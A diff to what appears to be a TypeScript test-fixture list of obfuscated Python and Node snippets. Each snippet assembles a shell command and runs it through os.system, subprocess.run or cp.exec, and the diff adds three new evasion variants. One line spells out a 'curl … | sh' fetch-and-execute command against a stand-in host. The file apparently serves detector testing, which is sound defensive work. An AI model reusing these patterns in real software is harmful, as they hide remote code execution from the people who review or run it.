@@ -31,6 +31,14 @@ export const PUT_TOGETHER: readonly ImageCase[] = [
     'by numbers',
     `x = [${CODES.map((code) => code ^ 7).join(',')}]\nc = ""\nfor n in x:\n    c += chr(n ^ 7)\nsubprocess.run(c, shell=True)`,
   ),
+  python(
+    'with letters between that a loop leaves out',
+    `c = ""\nfor x in "${[...`cu${REST}`].join('~')}":\n    if x == "~":\n        continue\n    c += x\nos.system(c)`,
+  ),
+  python(
+    'behind a loop that is longer than what is repeated',
+    `def f():\n    for i in range(19000):\n        x = i + 1 - 2 + 3\n    os.system("cu" + "${REST}")\nf()`,
+  ),
   python('turned round', `os.system("${BACK}"[::-1])`),
   python('by a function', `def g(a, b="${REST}"):\n    return "{}{}".format(a, b)\nos.system(g("cu"))`),
   python(
@@ -63,6 +71,10 @@ export const PUT_TOGETHER: readonly ImageCase[] = [
   node(
     'in a loop',
     `let c = "";\nfor (const n of [${CODES.join(',')}]) c += String.fromCharCode(n);\ncp.exec(c)`,
+  ),
+  node(
+    'up to where a loop is left',
+    `let c = "", i = 0;\ndo {\n  const x = "cu${REST}#zzz"[i++];\n  if (x === "#") break;\n  c += x;\n} while (true);\ncp.exec(c)`,
   ),
   node('cleaned', `cp.exec("cuXrl -s hXttps://files.backend.example/u | sXh".replace(/X/g, ""))`),
   node('turned round', `cp.exec("${BACK}".split("").reverse().join(""))`),
